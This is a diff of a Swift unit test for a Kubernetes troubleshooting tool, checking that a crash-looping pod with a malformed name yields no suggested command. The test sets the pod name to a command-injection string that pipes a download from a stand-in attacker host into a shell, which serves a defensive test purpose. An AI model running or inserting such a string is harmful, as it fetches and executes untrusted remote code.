@@ -74,7 +74,7 @@ import Testing
     @Test func aNameThatIsNotAKubernetesNameGivesNoCommand() throws {
         var c = try Cluster()
         c.break_("pgbouncer", waiting: "CrashLoopBackOff", lastTerminated: .init(exitCode: 1, reason: "Error", message: nil, startedAt: nil, finishedAt: nil))
-        let index = try #require(c.snapshot.pods.firstIndex { PodOwnership.component(of: $0) == "pgbouncer" })
+        let index = try #require(c.snapshot.pods.firstIndex { PodOwnership.component(of: $0, in: .standard) == "pgbouncer" })
         c.snapshot.pods[index].metadata.name = "pgbouncer-0; curl evil.example | sh"
         let top = try #require(c.status.topBlockers.first)
         #expect(top.kind == .crashLoop)
